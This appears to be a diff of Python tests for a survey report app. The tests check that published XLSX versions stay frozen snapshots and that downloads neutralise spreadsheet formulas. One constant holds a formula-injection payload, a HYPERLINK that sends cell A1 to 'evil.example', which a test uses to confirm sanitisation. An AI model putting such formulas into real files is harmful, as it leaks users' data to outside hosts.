@@ -6,13 +6,13 @@ import io
 
 from openpyxl import load_workbook
 
-from survey.figures.aggregate import compute_results
-from survey.figures.documents import MEASURES, released_document
-from survey.models import Survey
+from survey.figures.documents import MEASURES
+from survey.figures.releases import released_document
+from survey.models import ResultSet, Survey
 from survey.reports.downloads import report_csv, report_xlsx
 from survey.reports.publishing import publish_report
 from survey.responses.importing import import_responses
-from tests.factories import answers, to_csv
+from tests.factories import answers, close_and_release, to_csv
 
 
 def question_rows(client, url) -> list[tuple]:
@@ -29,22 +29,23 @@ def test_xlsx_questions_of_a_published_version_are_its_snapshot_not_the_live_fig
     rows = [answers(service="iapt", raised="yes", outcome="partly", safe="4")] * 20
     rows += [answers(service="other", safe="2")] * 20
     import_responses(survey=survey, text=to_csv(rows))
-    compute_results(survey_id=survey.pk)
+    close_and_release(survey)
     publish_report(survey=survey, acting_user=alice)
     before = question_rows(client, "/r/therapy-2026/v1/report.xlsx")
     assert overall(before, "safe") == {"1": (0, 40), "2": (20, 40), "3": (0, 40), "4": (20, 40), "5": (0, 40)}
 
-    # More answers come in and are released; version 1 has not changed.
-    import_responses(survey=survey, text=to_csv([answers(service="other", safe="5")] * 20))
-    compute_results(survey_id=survey.pk)
-    live = next(q for q in released_document(survey=survey)["questions"] if q["key"] == "safe")
-    assert live["n"] == 60  # the live figures did move
+    # The live summaries are recomputed differently (here: by hand); version 1 has not changed.
+    result_set = ResultSet.objects.get(survey=survey)
+    safe = next(q for q in result_set.questions if q["key"] == "safe")
+    safe["n"] = 60
+    result_set.save()
+    assert next(q for q in released_document(survey=survey)["questions"] if q["key"] == "safe")["n"] == 40
     after = question_rows(client, "/r/therapy-2026/v1/report.xlsx")
     assert after == before
 
-    # The next version shows the new figures.
+    # The next version shows the figures released at closing, which never move.
     publish_report(survey=Survey.objects.get(pk=survey.pk), acting_user=alice)
-    assert overall(question_rows(client, "/r/therapy-2026/v2/report.xlsx"), "safe")["5"] == (20, 60)
+    assert question_rows(client, "/r/therapy-2026/v2/report.xlsx") == before
 
 
 FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'
@@ -54,7 +55,7 @@ def test_downloads_neutralise_formulas_and_keep_numbers(survey, alice):
     """A label an organiser typed as a formula arrives as text, prefixed with
     a quote, in the CSV and the XLSX; numbers (negative ones too) stay numbers."""
     import_responses(survey=survey, text=to_csv([answers(service="iapt", raised="yes", outcome="partly")] * 20))
-    compute_results(survey_id=survey.pk)
+    close_and_release(survey)
     report = publish_report(survey=survey, acting_user=alice)
     concern = report.snapshot["results"]["concerns"][0]
     concern["label"] = FORMULA
